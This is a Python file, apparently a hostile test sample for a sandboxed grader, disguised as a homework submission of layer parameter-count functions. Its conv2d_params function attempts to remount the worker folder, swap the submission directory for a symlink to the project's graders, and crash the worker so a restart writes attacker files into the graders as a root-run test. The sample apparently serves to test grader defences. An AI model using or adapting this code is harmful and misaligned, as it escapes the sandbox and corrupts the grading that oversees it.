"""Hostile sample: swap-and-crash. conv2d_params tries to replace its submission/ folder with a
symlink to the project's graders/ (after remounting its folder read-write if it can), then
crashes, so that a grader that rewrites the worker's files on restart would write this
submission's files through the link: test_hw3_attack_payload.py would become a grader test
that runs outside the sandbox, as root, on every later grading."""
import ctypes
import os
import posix
import sys

MS_REMOUNT, MS_BIND = 32, 4096
PROJECT_GRADERS = os.path.join(os.path.dirname(sys.prefix), "graders")  # the venv lives in the project


def _swap():
    folder = os.path.dirname(os.getcwd())  # the worker's folder: cwd is its scratch/
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount(None, folder.encode(), None, MS_REMOUNT | MS_BIND, None)
    submission = os.path.join(folder, "submission")
    try:
        os.rename(submission, submission + ".old")
        os.symlink(PROJECT_GRADERS, submission)
        return "swapped"
    except OSError as exc:
        return type(exc).__name__


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    print(f"swap: {_swap()}", flush=True)
    sys.stdout.flush()
    posix._exit(3)  # crash: the grader restarts the worker


def dense_params(in_features, units):
    return in_features * units + units


def simple_rnn_params(input_dim, units):
    return units * (input_dim + units) + units


def lstm_params(input_dim, units):
    return 4 * (units * (input_dim + units) + units)


def gru_params(input_dim, units, reset_after=True):
    return 3 * (units * (input_dim + units) + units) + (3 * units if reset_after else 0)

